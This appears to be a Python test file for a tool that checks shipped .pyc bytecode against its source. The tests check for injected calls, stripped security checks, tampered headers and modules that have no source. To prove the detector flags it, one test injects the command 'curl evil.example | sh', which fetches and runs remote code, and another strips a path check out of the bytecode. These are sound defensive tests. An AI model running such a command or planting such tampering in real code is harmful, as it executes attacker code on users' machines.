#!/usr/bin/env python3
"""Bytecode beside its source: what was compiled from it is explained, what uses more than it has is named.

usage: bytecode.py PLUMB [PART-OF-A-NAME]
"""
import py_compile
import sys

from plumb_test import Skip, case, main

SOURCE = '''"""Keeps names."""
import os

LIMIT = 60 * 1000
MAGIC = (b"\\xfd7zXZ", b"\\377next")


class Store:
    """A store of entries."""

    def __init__(self, name):
        self.__name = name

    def load(self, path, *, limit=LIMIT):
        with open(os.path.join(path, f"{self.__name}.json")) as f:
            return [line.strip() for line in f if "key" "word" in line and len(line) < limit]
'''


def compiled(t, text, module="store", keep_source=False, mode=None, edit=None):
    """A folder of one .pyc made of `text`, one byte of it changed, and the folder of SOURCE."""
    if not (3, 8) <= sys.version_info[:2] <= (3, 13):
        raise Skip("no reader for the bytecode of this Python")
    source = t.path(f"made/{module}.py")
    t.write(f"made/{module}.py", text.encode())
    if not keep_source:
        t.write("src/pkg/store.py", SOURCE.encode())
    cached = t.path(f"pkg/usr/lib/pkg/__pycache__/{module}.cpython-{sys.version_info[0]}{sys.version_info[1]}.pyc")
    cached.parent.mkdir(parents=True, exist_ok=True)
    py_compile.compile(str(source), str(cached), dfile="usr/lib/pkg/store.py", invalidation_mode=mode)
    if edit is not None:
        data = bytearray(cached.read_bytes())
        data[edit] ^= 8
        cached.write_bytes(data)
    return cached, t.check(t.path("pkg"), "--source", t.path("src"))


@case
def bytecode_of_its_own_source_is_explained(t):
    _, report = compiled(t, SOURCE)
    assert report.file(".pyc")["bytes"]["unaccounted"] == 0, report.findings()
    assert not report.findings(tag="bytecode.foreign")


@case
def a_call_that_the_source_does_not_have_is_named(t):
    _, report = compiled(t, SOURCE.replace("with open", 'os.system("curl evil.example | sh")\n        with open'))
    found = report.findings(tag="bytecode.foreign", severity="error")
    assert len(found) == 1 and "system" in found[0]["evidence"]["not in the source"], report.findings()
    assert "load" in found[0]["message"]
    assert report.code == 1


@case
def a_source_of_another_size_is_noticed(t):
    _, report = compiled(t, SOURCE + "\n\n# a comment\n")
    assert report.findings(tag="bytecode.header", severity="warning"), report.findings()


@case
def a_check_that_is_taken_out_of_the_bytecode_is_named(t):
    guard = '        if not path.startswith("/srv"):\n            raise PermissionError(path)\n'
    t.write("src/pkg/store.py", SOURCE.replace("        with open", guard + "        with open").encode())
    _, report = compiled(t, SOURCE, keep_source=True)
    found = report.findings(tag="bytecode.lost", severity="error")
    assert [f["evidence"]["in the source alone"] for f in found] == ["startswith, PermissionError"], report.findings()


@case
def what_an_instruction_does_has_to_be_said_at_its_line(t):
    if not (3, 11) <= sys.version_info[:2] <= (3, 13):
        raise Skip("no table of the instructions of this Python")
    for old, new, wanted in (("< limit", "<= limit", "<="), ("len(line) < limit", "len(line) - 7 < limit", "-"), ("limit=LIMIT", "limit=LIMIT + 7", "+"),
                             ("os.path.join(path", "os.path.join(load", "load")):
        _, report = compiled(t, SOURCE.replace(old, new))
        found = report.findings(tag="bytecode.changed", severity="error")
        assert any(wanted in f["evidence"]["in the bytecode alone"] for f in found), (new, report.findings())


@case
def flags_and_hash_of_the_header_are_checked(t):
    for mode, edit, wanted in ((py_compile.PycInvalidationMode.CHECKED_HASH, None, 0), (py_compile.PycInvalidationMode.UNCHECKED_HASH, 8, 1), (None, 4, 1)):
        _, report = compiled(t, SOURCE, mode=mode, edit=edit)
        assert len(report.findings(tag="bytecode.header", severity="error")) == wanted, report.findings()


@case
def a_module_without_a_source_is_an_error(t):
    _, report = compiled(t, SOURCE, module="backdoor")
    assert report.findings(tag="file.unaccounted", severity="error"), report.findings()


if __name__ == "__main__":
    main()
